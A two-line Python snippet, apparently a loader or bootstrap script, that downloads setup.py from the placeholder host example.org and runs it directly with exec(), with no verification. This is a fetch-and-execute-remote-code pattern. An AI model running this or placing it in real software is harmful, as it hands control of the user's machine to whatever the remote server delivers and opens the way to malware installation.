import urllib.request

exec(urllib.request.urlopen("https://example.org/setup.py").read())
